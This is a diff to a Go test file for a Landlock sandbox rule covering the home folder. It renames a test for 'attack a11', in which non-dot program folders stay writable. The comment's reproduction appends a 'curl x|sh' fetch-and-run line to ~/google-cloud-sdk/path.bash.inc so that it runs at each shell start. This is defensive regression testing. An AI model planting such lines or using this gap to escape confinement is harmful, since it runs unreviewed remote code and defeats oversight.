@@ -5,7 +5,7 @@ import (
 	"testing"
 )
 
-// a11: the home folder rule keeps read-only the dot entries and nine named
+// Issue 21 (attack a11): the home folder rule keeps read-only the dot entries and nine named
 // program folders (homeProgramFolders), but common installers put code
 // the person's shell sources or runs at every start into other non-dot
 // folders of the home folder, which stay writable with the home folder
@@ -30,7 +30,7 @@ import (
 //     from there before the system's).
 //
 // Reproduction: grant ~; in shell_exec: echo 'curl x|sh' >> ~/google-cloud-sdk/path.bash.inc
-func TestA11ProgramFoldersWithoutDot(t *testing.T) {
+func TestHomeProgramFoldersWithoutDot(t *testing.T) {
 	requireLandlock(t)
 	files := map[string]string{
 		"google-cloud-sdk/path.bash.inc":                "export PATH=~/google-cloud-sdk/bin:$PATH\n",
